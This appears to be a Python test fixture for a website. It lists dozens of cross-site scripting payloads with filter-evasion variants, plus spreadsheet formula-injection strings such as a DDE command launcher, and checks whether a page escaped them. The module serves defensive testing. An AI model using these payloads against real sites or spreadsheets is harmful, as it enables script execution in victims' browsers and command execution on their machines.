"""Text that wants to be a script or a formula: 60 and 14 of them, and a look at whether a page let one through."""

from tests.website.reading import Document

RUN = "hsf_ran(1)"
"""What each of them would call."""

_HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart", "onpointerenter")
_TAGS = ("img src=x", "svg", "body", "video src=x", "details open", "input autofocus", "marquee", "iframe")
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,", "vbscript:", "&#106;avascript:")

SCRIPTS: tuple[str, ...] = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=//x.example.org/{RUN}></script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</select><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<script\x0c>{RUN}</script>",
    f"＜script＞{RUN}＜/script＞",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    *(f"<{tag} {handler}={RUN}>" for tag, handler in zip(_TAGS, _HANDLERS, strict=True)),
    *(f'" {handler}="{RUN}' for handler in _HANDLERS),
    *(f"' {handler}='{RUN}" for handler in _HANDLERS[:4]),
    *(f'<a href="{scheme}{RUN}">x</a>' for scheme in _SCHEMES),
    *(f"{scheme}{RUN}" for scheme in _SCHEMES),
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<svg><script>{RUN}</script></svg>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<object data=javascript:{RUN}></object>",
    f"<meta http-equiv=refresh content=0;url=javascript:{RUN}>",
    "{{ " + RUN + " }}{% for x in y %}",
    "<!--content-->" + f"<img src=x onerror={RUN}>",
    f"${{{RUN}}}`;{RUN}//",
)
FORMULAS: tuple[str, ...] = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("//x.example.org","x")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "|calc",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "＝1+1",
)
ALL_AT_ONCE = " ".join((*SCRIPTS, *FORMULAS))
"""Escaping looks at one sign after the other: what stands beside it makes no difference."""


def let_through(page: str) -> list[str]:
    """What on a page is a script, a frame, a handler or an address that runs: nothing, if all text stayed text."""
    return [f"<{one.tag} {one.attributes}>" for one in Document(page).elements if _runs(one.tag, one.attributes)]


def _runs(tag: str, attributes: dict[str, str]) -> bool:
    own_script = tag == "script" and attributes.get("src", "").startswith("/") and "//" not in attributes["src"]
    if tag in ("iframe", "object", "embed", "math", "marquee", "video", "base") or (tag == "script" and not own_script):
        return True
    if tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
        return True
    addresses = (attributes.get(name, "") for name in ("href", "src", "action", "formaction", "data"))
    return any(name.startswith("on") for name in attributes) or any(RUN in address for address in addresses)
